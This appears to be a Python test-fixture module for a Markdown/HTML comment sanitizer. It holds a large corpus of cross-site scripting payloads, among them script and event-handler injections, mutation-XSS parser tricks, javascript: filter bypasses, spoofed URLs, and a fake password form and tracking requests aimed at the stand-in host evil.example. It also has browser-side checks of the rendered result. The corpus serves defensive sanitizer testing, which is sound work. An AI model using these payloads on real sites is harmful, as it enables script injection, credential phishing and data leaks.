"""Attacks that readers may write: own cases, in Markdown, in HTML, and in the ways that either hides the other.

Whatever runs sets `ran` or opens a dialogue; whatever leaves asks `evil.example`; whatever leaks paints with `#bada55`.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

_RUN: Final = "window.ran=1"

# HTML that some parser somewhere runs. Ours shows it as text.
_HTML: Final = (
    "<script>RUN</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>RUN</script\n>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "</p></div></article></template><script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script/x>RUN</script>",
    "<script>RUN",
    "<svg><script>RUN</script></svg>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><a xlink:href=javascript:RUN><rect width=99 height=99/></a></svg>",
    "<svg><use href=https://evil.example/s.svg#x>",
    "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    '<svg></p><style><g title="</style><img src=x onerror=RUN>">',
    '<math><mtext></p><style><!--</style><img title="--><img src=x onerror=RUN>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<math href=javascript:RUN>click</math>",
    "<img src=x onerror=RUN>",
    '<img src=x onerror="RUN">',
    "<img/src=x/onerror=RUN>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/1.gif 1x, https://evil.example/2.gif 2x'>",
    "<img src='x' style='background:url(https://evil.example/bg)'>",
    "<img src=`x`onerror=RUN>",
    "<image src=x onerror=RUN>",
    "<picture><source srcset=https://evil.example/a.webp><img></picture>",
    "<video src=https://evil.example/v.mp4 autoplay onerror=RUN></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=x onerror=RUN></audio>",
    "<source onerror=RUN>",
    "<track src=https://evil.example/t.vtt default>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<frameset onload=RUN>",
    "<object data=https://evil.example/o.swf></object>",
    "<object data=javascript:RUN></object>",
    "<embed src=https://evil.example/e.swf>",
    "<embed src=javascript:RUN>",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=https://evil.example/>",
    "<base target=_top>",
    "<style>*{color:#bada55!important}</style>",
    "<style>@import url(https://evil.example/i.css);</style>",
    "<style>:host{color:#bada55}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>",
    "<p style='position:fixed;inset:0;background:#bada55'>cover</p>",
    "<p style=color:#bada55 class=button part=body id=heading slot=x>styled</p>",
    "<div style='background:url(javascript:RUN)'>x</div>",
    "<div style='width:expression(RUN)'>x</div>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=RUN><button>Sign in</button></form>",
    "<form><button formaction=javascript:RUN>go</button></form>",
    "<input autofocus onfocus=RUN>",
    "<input type=image src=https://evil.example/i.png>",
    "<select autofocus onfocus=RUN><option></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<keygen autofocus onfocus=RUN>",
    "<isindex action=javascript:RUN type=image>",
    "<body onload=RUN>",
    "<body background=https://evil.example/b.png>",
    "<html onmouseover=RUN>",
    "<table background=https://evil.example/t.png><td background=javascript:RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<marquee loop=1 width=0 onfinish=RUN>x</marquee>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=pop onbeforetoggle=RUN>x</div><button popovertarget=pop>x</button>",
    "<p onclick=RUN onmouseover=RUN onpointerenter=RUN onanimationstart=RUN>text</p>",
    "<p tabindex=1 onfocus=RUN autofocus contenteditable>text</p>",
    "<a href=javascript:RUN>link</a>",
    '<a href="https://evil.example/" ping=https://evil.example/ping>link</a>',
    "<a href=https://evil.example target=_top rel=opener>link</a>",
    "<a style='position:fixed;inset:0' href=https://evil.example>link</a>",
    "<xss style='x' onpointerdown=RUN>x</xss>",
    "<x onclick=RUN contenteditable>x</x>",
    "<slot name=x onslotchange=RUN></slot>",
    "<template><script>RUN</script></template>",
    "<template shadowrootmode=open><script>RUN</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    '<title><img title="</title><img src=x onerror=RUN>"></title>',
    "<plaintext><script>RUN</script>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<!--><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN> -->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    '<?xml-stylesheet href="javascript:RUN"?>',
    "<?php echo '<script>RUN</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>RUN</script>'>]>&x;",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "&#x3c;img src=x onerror=RUN&#x3e;",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "¼script¾RUN¼/script¾",
    "＜script＞RUN＜/script＞",
    '<img src="x\u2028onerror=RUN">',
    "<img\u00a0src=x\u00a0onerror=RUN>",
    "<im\u200bg src=x onerror=RUN>",
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "{% raw %}<script>RUN</script>{% endraw %}",
    "'\"><img src=x onerror=RUN>",
    '" onmouseover=RUN x="',
    "' autofocus onfocus=RUN '",
    "`-RUN-`",
    "*/RUN/*",
    "</script><script>RUN</script>",
    "</style><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</template></story-comments><script>RUN</script>",
    "<story-comments story-id=other></story-comments>",
    "<story-comments-count story-id=\"x' onerror='RUN\"></story-comments-count>",
)

# Where a link may try to lead, written so that a filter that looks for `javascript:` passes it by.
_TARGETS: Final = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "\tjavascript:RUN",
    "java\tscript:RUN",
    "java\u00adscript:RUN",
    "\u0001javascript:RUN",
    "&#106;avascript:RUN",
    "&#x6A;avascript&colon;RUN",
    "&NewLine;javascript:RUN",
    "java&Tab;script:RUN",
    "javascript&#58;RUN",
    "jav%61script:RUN",
    "javascript%3ARUN",
    "javascript://evil.example/%0aRUN",
    "ｊavascript:RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "mocha:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=RUN>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "view-source:https://evil.example/",
    "about:blank",
    "intent://evil.example#Intent;scheme=http;end",
    "ms-word:ofe|u|https://evil.example/x.doc",
    "tel:+1234",
    "sms:+1234",
    "ws://evil.example/",
    "//evil.example/",
    "\\\\evil.example\\share",
    "/\\evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "https://bank.example@evil.example/",
    "https://bank.example%40evil.example/",
    "https://bank.example\\@evil.example/",
    "https://аррӏе.com/",
    "https://ｅｖｉｌ.example/",
    'https://evil.example/"onmouseover="RUN',
    "https://evil.example/'onmouseover='RUN",
    "https://evil.example/><img src=x onerror=RUN>",
    "https://evil.example/%22%3E%3Cscript%3ERUN%3C/script%3E",
    "https://evil.example/%E2%80%AEgpj.exe",
    "mailto:a@evil.example?body=%3Cscript%3ERUN%3C/script%3E",
    "mailto:",
    "#comment-1",
    "?x=<script>RUN</script>",
    "../../console",
)
_LINKS: Final = ("[words]({})", "<{}>", '[words](<{}> "a title")', "[words][1]\n\n[1]: {}", "![words]({})", "{}")

# What a parser of Markdown may be led to by its own marks.
_MARKS: Final = (
    "```html\n<script>RUN</script>\n```",
    '```"><script>RUN</script>\n```',
    "```js onload=RUN\nx\n```",
    "~~~\n</code></pre><script>RUN</script>\n~~~",
    "    <script>RUN</script>",
    "`<img src=x onerror=RUN>`",
    "``</code><script>RUN</script>``",
    "> <script>RUN</script>\n> <img src=x onerror=RUN>",
    "- <script>RUN</script>\n  - <img src=x onerror=RUN>",
    "1. <svg onload=RUN>",
    "*<b onclick=RUN>*",
    "**</strong><script>RUN</script>**",
    "[a](b 'onclick=RUN')",
    "[a](https://evil.example 'x\" onclick=RUN y=\"')",
    "[<img src=x onerror=RUN>](https://evil.example)",
    "[![x](https://evil.example/p.png)](javascript:RUN)",
    "[a](https://evil.example)[b](javascript:RUN)",
    "[a]: javascript:RUN\n\n[a]",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "<https://evil.example/<script>RUN</script>>",
    "https://evil.example/<script>RUN</script>",
    'https://evil.example/?q="><script>RUN</script>',
    "<!-- comment --><script>RUN</script>",
    "| a | <script>RUN</script> |\n|---|---|\n| <img src=x onerror=RUN> | b |",
    "# <script>RUN</script>",
    "Term\n: <script>RUN</script>",
    "[^1]\n\n[^1]: <script>RUN</script>",
    "- [ ] <input autofocus onfocus=RUN>",
    ":::html\n<script>RUN</script>\n:::",
    "$$\\href{javascript:RUN}{x}$$",
    "\u202e<script>RUN</script>\u202c",
    "\u2066<img src=x onerror=RUN>\u2069",
    "\ufeff<script>RUN</script>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "> " * 100 + "<script>RUN</script>",
    "- " * 60 + "<script>RUN</script>",
    "[" * 200 + "x" + "](javascript:RUN)" * 200,
    "*" * 500 + "<script>RUN</script>" + "*" * 500,
    "<" * 500 + "script>RUN</script>",
    "&" * 500 + "lt;script&gt;",
)


def corpus() -> Iterator[str]:
    """Every case, once."""
    links = (
        # Each target in one form of link, and each form with the plainest attack.
        _LINKS[number % len(_LINKS)].format(target)
        for number, target in enumerate(_TARGETS)
    )
    forms = (form.format("javascript:RUN") for form in _LINKS)
    every = (*_HTML, *links, *forms, *_MARKS)
    # Some ways of writing differ only before they are cleaned.
    yield from dict.fromkeys(case.replace("RUN", _RUN) for case in every)


CASES: Final = tuple(corpus())

# What a page tells of itself afterwards, for the elements that a selector finds inside the given root.
TELL: Final = """(roots) => {
  const inside = roots.flatMap((root) => [...root.querySelectorAll("*")]);
  const named = (one) => one.tagName.toLowerCase();
  return {
    elements: [...new Set(inside.map(named))].sort(),
    attributes: [...new Set(inside.flatMap(
      (one) => [...one.attributes].map((own) => `${named(one)} ${own.name}`)))].sort(),
    links: [...new Set(inside.filter((one) => one.href).map((one) => one.href))],
    painted: roots.concat(inside).filter((one) => /186, 218, 85/.test(
      getComputedStyle(one).color + getComputedStyle(one).backgroundColor)).length,
    covering: inside.filter((one) => ["fixed", "absolute", "sticky"].includes(getComputedStyle(one).position)).length,
    ran: window.ran ?? null,
    sheets: document.styleSheets.length,
    bodyColour: getComputedStyle(document.body).color,
  };
}"""

# As a reader's pointer and keys would, short of following a link.
TOUCH: Final = """(all) => all.forEach((one) => {
  for (const name of ["pointerover", "pointerenter", "mouseover", "pointerdown", "focus", "animationstart", "toggle"])
    one.dispatchEvent(new Event(name, { bubbles: true }));
})"""

ELEMENTS: Final = {"p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
